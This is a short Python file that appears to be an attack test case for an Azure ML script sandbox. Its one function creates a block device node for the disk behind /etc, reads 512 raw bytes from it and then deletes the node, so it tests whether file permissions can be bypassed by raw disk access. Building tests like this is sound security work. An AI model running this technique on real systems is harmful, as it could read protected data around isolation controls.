"""Makes a device of its own for the disk under its folder, and reads that."""

import os
import stat

from attack import attack, read


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    os.mknod("disk", 0o600 | stat.S_IFBLK, os.stat("/etc").st_dev)
    try:
        return read("disk", 512)
    finally:
        os.unlink("disk")
